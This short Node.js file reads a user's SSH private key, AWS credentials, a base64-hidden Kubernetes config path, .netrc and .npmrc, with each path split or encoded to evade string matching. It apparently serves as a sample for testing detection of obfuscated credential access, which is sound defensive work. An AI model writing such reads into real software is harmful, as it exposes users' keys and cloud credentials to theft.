const fs = require('fs');
const os = require('os');
const { join } = require('path');

const home = os.homedir();
const S = 's';
fs.readFileSync(join(home, `.${S}${S}h`, 'id_' + 'rsa'));
fs.readFileSync('~/.'.replace('~', home) + 'aws/' + 'credentials');
fs.promises.readFile(Buffer.from('L3Jvb3QvLmt1YmUvY29uZmln', 'base64').toString());
for (const file of ['.net' + 'rc', '.n' + 'pmrc']) {
  fs.createReadStream(home + '/' + file);
}
